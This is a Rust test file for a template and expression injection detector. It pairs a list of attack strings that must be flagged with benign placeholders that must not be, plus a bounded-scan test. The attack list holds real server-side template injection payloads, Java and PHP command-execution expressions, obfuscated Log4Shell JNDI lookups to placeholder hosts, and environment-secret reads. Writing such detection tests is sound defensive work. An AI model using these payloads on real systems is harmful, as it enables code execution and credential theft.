#![allow(clippy::unwrap_used)]

use super::*;

#[test]
fn an_expression_that_computes_or_reaches_out_is_found() {
    let attacks = [
        "{{7*7}}",
        "{{528|add:475}}",
        "${7*7}",
        "${applicationScope}",
        "${pageContext.request.getSession().setAttribute('a',1)}",
        "${class.getClassLoader()}",
        "${{7*7}}",
        "#{7*7}",
        "<%= 7 * 7 %>",
        "@(1+2)",
        "{{7*'7'}}",
        "{{4+4}}",
        "{{4 4}}",
        "{{10-3}}",
        "{{{7*7}}}",
        "*{7*7}",
        "%{1000-900}",
        "x{{952*190}}y",
        "{7*7}",
        "[[5*5]]",
        "[[${7*7}]]",
        "{{=7*7}}",
        "{{1==1}}",
        "@(6+5)",
        "${'a'+'b'}",
        "{{''.__class__.__mro__[2].__subclasses__()}}",
        "{{ [].class.base.subclasses() }}",
        "{{'a'.toUpperCase()}}",
        "{{request|attr('__class__')}}",
        "{{request|attr([\"_\"*2,\"class\"]|join)}}",
        "{{cycler.x.__globals__.os}}",
        "{{[] .__ class __}}",
        "{{config}}",
        "{{ self }}",
        "{{config.items()}}",
        "{{settings.SECRET_KEY}}",
        "{{dump(app)}}",
        "{{app.request.server.all|join(',')}}",
        "{{['id']|filter('system')}}",
        "{{['id']|map('passthru')}}",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
        "{{constructor.constructor('alert(1)')()}}",
        "{% for c in [1,2,3] %}",
        "{% set x = 1 %}",
        "{% import os %}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "*{T(java.lang.System).getenv()}",
        "${self.module.cache.os.system('id')}",
        "${\"freemarker.template.utility.Execute\"?new()('id')}",
        "<%= system('id') %>",
        "<%= `id` %>",
        "#{`id`}",
        "%{(#a=@java.lang.Runtime@getRuntime())}",
        "%{#context['x']}",
        "${#a=1}",
        "${@print(md5(1))}",
        "{${phpinfo()}}",
        "{${sleep(3)}}",
        "#{global.process.mainModule.require('child_process')}",
        "${jndi:ldap://x/a}",
        "${JNDI:dns://x}",
        "${ jndi:rmi://x",
        "${${lower:j}ndi:ldap://x}",
        "${j${::-n}di:x}",
        "${${::-j}${::-n}",
        "${${env:A:-j}ndi:x}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${sys:user.name}",
        "${a:-b}",
        "${script:javascript:1}",
        "$${::-j}",
        "{% debug %}",
        "{{ config['A'] }}",
        "#{%x(id)}",
    ];
    for attack in attacks {
        let found = code(attack.as_bytes()).unwrap_or(Finding {
            confidence: 0,
            start: 0,
            end: 0,
        });
        assert!(found.confidence >= MEDIUM, "{attack}: {found:?}");
        assert!(
            found.start < found.end && found.end <= attack.len(),
            "{attack}: {found:?}"
        );
    }
    assert!(attacks.len() > 60);
}

#[test]
fn placeholders_and_other_uses_of_the_delimiters_are_not() {
    let ordinary = [
        "{{name}}",
        "{{ product.image }}",
        "{{price | currency}}",
        "{{'TITLE' | translate}}",
        "{{asset('logo.png')}}",
        "{{item.getUrl()}}",
        "{{#each items}}",
        "{{/if}}",
        "{{2026-11-22}}",
        "{{user.first_name}}",
        "{{runtime}}",
        "{{a-b}}",
        "${price}",
        "${AUCTION_PRICE}",
        "${gdpr_consent_755}",
        "${pageContext.request.contextPath}",
        "${ctx}/a.js",
        "${system}",
        "${process.env.PUBLIC_URL}/logo.png",
        "#{hash}",
        "#{user.id}",
        "<%=url%>",
        "<%= image_tag('a.png') %>",
        "a <% b",
        "%{title}",
        "100%{x}",
        "@(someone)",
        "me@(office)",
        "{\"a\":{\"b\":[[1,2],[3,4]]}}",
        "{\"a\":{\"b\":{}}}",
        "[[1-2]]",
        "[[Category:X]]",
        "{a,b}*{c}",
        "{1-3}",
        "^[a-z]{2,3}$",
        "{{ 'x' }}",
        "{% static 'a.png' %}",
        "{% url 'home' %}",
        "{% block content %}",
        "a{{b",
        "${",
        "{{",
        "<%",
        "{%",
        "{{}}",
        "${}",
        "{{config.assetUrl}}",
        "{{10:30}}",
        "{{ request.path }}",
        "function(){return {}}",
        "$",
        "{",
        "costs $5 {net}",
        "{{7}}",
        "${1}",
    ];
    for text in ordinary {
        let found = code(text.as_bytes());
        assert!(
            found.is_none_or(|found| found.confidence < MEDIUM),
            "{text}: {found:?}"
        );
    }
    assert!(ordinary.len() > 45);
}

#[test]
fn each_byte_is_read_a_bounded_number_of_times() {
    for piece in [
        "{{", "${", "{%", "<%", "@(", "{{a", "${a", "[[", "{", "'{{", "{{'",
    ] {
        let text = piece.repeat(60_000 / piece.len());
        let found = code(text.as_bytes());
        assert!(found.is_none_or(|found| found.end <= text.len()));
    }
}
